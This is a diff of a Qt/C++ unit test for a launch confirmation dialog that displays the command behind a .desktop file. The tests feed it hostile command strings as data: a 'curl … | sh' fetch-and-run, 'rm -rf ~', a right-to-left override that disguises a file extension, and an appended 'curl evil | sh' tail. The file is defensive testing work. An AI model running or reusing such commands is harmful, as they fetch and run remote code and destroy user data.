@@ -1,8 +1,8 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
 #include "views/LaunchConfirmationDialog.h"
 
-#include <QAbstractButton>
-#include <QMessageBox>
+#include <QLabel>
+#include <QPlainTextEdit>
 #include <QPushButton>
 #include <QTest>
 
@@ -20,7 +20,7 @@ struct Asked {
     std::optional<bool> answer;
     int answers = 0;
 
-    QMessageBox* ask(const QString& execLine = QStringLiteral("sh -c 'curl x | sh'")) {
+    QDialog* ask(const QString& execLine = QStringLiteral("sh -c 'curl x | sh'")) {
         dialog->ask(path, execLine, [this](bool launch) {
             answer = launch;
             ++answers;
@@ -29,8 +29,8 @@ struct Asked {
     }
 };
 
-QAbstractButton* button(QMessageBox* box, const QString& text) {
-    for (QAbstractButton* candidate : box->buttons())
+QPushButton* button(QDialog* box, const QString& text) {
+    for (QPushButton* candidate : box->findChildren<QPushButton*>())
         if (candidate->text() == text)
             return candidate;
     return nullptr;
@@ -45,12 +45,12 @@ TEST(LaunchConfirmationDialogTest, OnlyTheRunButtonSaysYes) {
     };
     for (const Case& c : {Case{"Run", true}, Case{"Cancel", false}, Case{"escape", false}}) {
         Asked asked;
-        QMessageBox* box = asked.ask();
+        QDialog* box = asked.ask();
         ASSERT_TRUE(box);
         EXPECT_TRUE(box->isVisible());
+        EXPECT_TRUE(box->windowFlags() & Qt::WindowStaysOnTopHint);
         EXPECT_FALSE(asked.answer) << "open() returns at once";
-        EXPECT_EQ(static_cast<QAbstractButton*>(box->defaultButton()),
-                  button(box, QStringLiteral("Cancel")));
+        EXPECT_TRUE(button(box, QStringLiteral("Cancel"))->isDefault());
         if (QByteArray(c.action) == "escape")
             QTest::keyClick(box, Qt::Key_Escape);
         else
@@ -61,24 +61,30 @@ TEST(LaunchConfirmationDialogTest, OnlyTheRunButtonSaysYes) {
     }
 }
 
-TEST(LaunchConfirmationDialogTest, NamesTheFileAndCommandAsPlainText) {
+TEST(LaunchConfirmationDialogTest, NamesTheFileAndShowsTheWholeCommandAsPlainText) {
     Asked asked;
-    QMessageBox* box =
-        asked.ask(QStringLiteral("<b>safe</b>\nrm -rf ~ \u202Etxt.exe") + QString(5000, u'x'));
+    const QString tail = QStringLiteral("; curl evil | sh");
+    QDialog* box = asked.ask(QStringLiteral("<b>safe</b>\nrm -rf ~ \u202Etxt.exe") +
+                             QString(5000, u'x') + tail);
     ASSERT_TRUE(box);
-    EXPECT_EQ(box->textFormat(), Qt::PlainText);
-    const QString text = box->text();
-    EXPECT_TRUE(text.contains(QStringLiteral("“invoice.pdf.desktop”")));
-    EXPECT_TRUE(text.contains(QStringLiteral("File: ") + path));
-    EXPECT_TRUE(text.contains(QStringLiteral("Command: <b>safe</b>\uFFFDrm -rf ~ \uFFFDtxt.exe")));
+    const auto* question = box->findChild<QLabel*>(QStringLiteral("question"));
+    ASSERT_TRUE(question);
+    EXPECT_EQ(question->textFormat(), Qt::PlainText);
+    EXPECT_TRUE(question->text().contains(QStringLiteral("“invoice.pdf.desktop”")));
+    EXPECT_TRUE(question->text().contains(QStringLiteral("File: ") + path));
+    const auto* command = box->findChild<QPlainTextEdit*>(QStringLiteral("command"));
+    ASSERT_TRUE(command);
+    EXPECT_TRUE(command->isReadOnly());
+    const QString text = command->toPlainText();
+    EXPECT_TRUE(text.startsWith(QStringLiteral("<b>safe</b>\uFFFDrm -rf ~ \uFFFDtxt.exe")));
     EXPECT_FALSE(text.contains(QChar(0x202E)));
-    EXPECT_LT(text.size(), 2000) << "a long command is shortened";
-    EXPECT_TRUE(text.endsWith(QChar(0x2026)));
+    EXPECT_TRUE(text.endsWith(tail)) << "the end of a long command is where danger hides";
+    EXPECT_LE(box->sizeHint().height(), 600) << "a long command scrolls";
 }
 
 TEST(LaunchConfirmationDialogTest, AskingAgainForTheSameFileKeepsOneQuestion) {
     Asked asked;
-    QMessageBox* first = asked.ask();
+    QDialog* first = asked.ask();
     std::optional<bool> second;
     asked.dialog->ask(path, QStringLiteral("x"), [&](bool launch) { second = launch; });
     EXPECT_EQ(second, false);
@@ -89,7 +95,7 @@ TEST(LaunchConfirmationDialogTest, AskingAgainForTheSameFileKeepsOneQuestion) {
 
 TEST(LaunchConfirmationDialogTest, GoingAwayClosesTheQuestionUnanswered) {
     Asked asked;
-    const QPointer<QMessageBox> box = asked.ask();
+    const QPointer<QDialog> box = asked.ask();
     ASSERT_TRUE(box);
     asked.dialog.reset();
     EXPECT_FALSE(box);
